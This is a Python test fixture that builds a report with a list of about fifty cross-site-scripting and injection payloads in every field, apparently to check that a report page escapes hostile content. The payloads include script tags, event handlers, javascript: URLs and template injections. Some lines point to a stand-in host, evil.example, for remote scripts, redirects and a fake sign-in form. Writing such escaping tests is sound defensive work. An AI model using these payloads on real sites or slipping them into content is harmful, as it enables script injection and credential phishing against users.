"""What somebody may write into a report so that it runs, or deceives, on a page."""

from __future__ import annotations

from mvc.quality.reports.report import (
    Code,
    Dataset,
    Environment,
    Evaluator,
    Metric,
    Model,
    Report,
    Run,
    Source,
    Train,
    Used,
)

RUN = "window.pwned=1"
PAYLOADS = (
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script src=//evil.example/x.js></script>{RUN}",
    f"<img src=x onerror={RUN}>",
    f"<img src=x onerror='{RUN}'//",
    f'"><img src=x onerror="{RUN}">',
    f"'><img src=x onerror='{RUN}'>",
    f'" onmouseover="{RUN}" x="',
    f"' onfocus='{RUN}' autofocus='",
    f"` onload=`{RUN}`",
    f" onclick={RUN} ",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><foreignObject><iframe srcdoc='<script>{RUN}</script>'></iframe></foreignObject></svg>",
    f"<svg><a xlink:href='javascript:{RUN}'><text y=20>x</text></a></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<iframe src='javascript:{RUN}'></iframe>",
    f"<iframe srcdoc='&lt;script&gt;{RUN}&lt;/script&gt;'></iframe>",
    f"<object data='javascript:{RUN}'></object>",
    f"<embed src='javascript:{RUN}'>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<meta http-equiv='Content-Security-Policy' content=''>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<form action=https://evil.example/><button>Sign in</button></form>",
    f"<a href='javascript:{RUN}'>a link</a>",
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"\x01javascript:{RUN}",
    f"vbscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>",
    f"<details open ontoggle={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<body onload={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<template><script>{RUN}</script></template>",
    f"<!--><script>{RUN}</script>-->",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"{{{{ ''.__class__.__mro__[1].__subclasses__() }}}}{RUN}",
    f"{{% import os %}}{RUN}",
    f"${{{RUN}}}",
    "\u202egpj.exe\u202c",
    f"\u2066<script>\u2069{RUN}\u200b\ufeff",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#x3c;img src=x onerror={RUN}&#x3e;",
    f"%3Cscript%3E{RUN}%3C/script%3E",
)
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"><script>{RUN}</script></svg>'.encode()


def hostile(blake3: str, tag: str, picture: str) -> Report:
    """Return a report of the content `blake3` that has all payloads in each of its lists, and one in each other text.

    `picture` is the blake3 of the picture at `plots/x.svg`.
    """
    text = "\n".join(PAYLOADS)
    return Report(
        1, Model(blake3, name=PAYLOADS[0]), tag, task=PAYLOADS[1], desc=text, created_at=PAYLOADS[2],
        evaluator=Evaluator(PAYLOADS[3]), code=Code(PAYLOADS[4], command=text),
        environment=Environment(PAYLOADS[5], PAYLOADS[6], {item: item for item in PAYLOADS}),
        run=Run(PAYLOADS[7], PAYLOADS[8], f"javascript:{RUN}"), params={item: item for item in PAYLOADS},
        together=[Used(item, blake3) for item in PAYLOADS], train=Train([Used(item, blake3) for item in PAYLOADS]),
        datasets=[Dataset(item, blake3, path=item, split=item) for item in PAYLOADS],
        sources=[Source(item, blake3, item) for item in PAYLOADS],
        metrics=[
            *(Metric(item, 0.5, dataset=item, stderr=0.1, method=item) for item in PAYLOADS),
            *(Metric("auc", 0.5, slice={item: item}) for item in PAYLOADS),
        ],
        artifacts=[Used("plots/x.svg", picture), *(Used(f"{item}.svg", blake3) for item in PAYLOADS)],
        limitations=text,
    )
